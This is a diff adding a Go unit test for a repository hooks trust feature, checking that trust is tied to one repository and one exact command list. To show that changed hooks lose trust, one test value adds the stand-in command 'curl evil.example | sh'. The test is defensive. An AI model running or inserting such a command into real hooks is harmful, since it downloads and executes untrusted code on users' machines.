@@ -0,0 +1,32 @@
+package hooks
+
+import (
+	"testing"
+
+	"github.com/FScoward/rakutree/internal/config"
+)
+
+func TestTrust(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+
+	h := config.Hooks{PostCreate: []string{"npm ci"}, PreRemove: []string{"docker compose down"}}
+	if trusted, err := IsTrusted("/src/app/.git", h); err != nil || trusted {
+		t.Fatalf("IsTrusted() before Trust = %v, %v; want false", trusted, err)
+	}
+
+	if err := Trust("/src/app/.git", h); err != nil {
+		t.Fatalf("Trust() error = %v", err)
+	}
+	if trusted, err := IsTrusted("/src/app/.git", h); err != nil || !trusted {
+		t.Errorf("IsTrusted() after Trust = %v, %v; want true", trusted, err)
+	}
+
+	// Trust is per repository and per exact list of commands
+	if trusted, _ := IsTrusted("/src/other/.git", h); trusted {
+		t.Error("IsTrusted() of another repository = true")
+	}
+	changed := config.Hooks{PostCreate: []string{"npm ci", "curl evil.example | sh"}, PreRemove: h.PreRemove}
+	if trusted, _ := IsTrusted("/src/app/.git", changed); trusted {
+		t.Error("IsTrusted() of changed hooks = true")
+	}
+}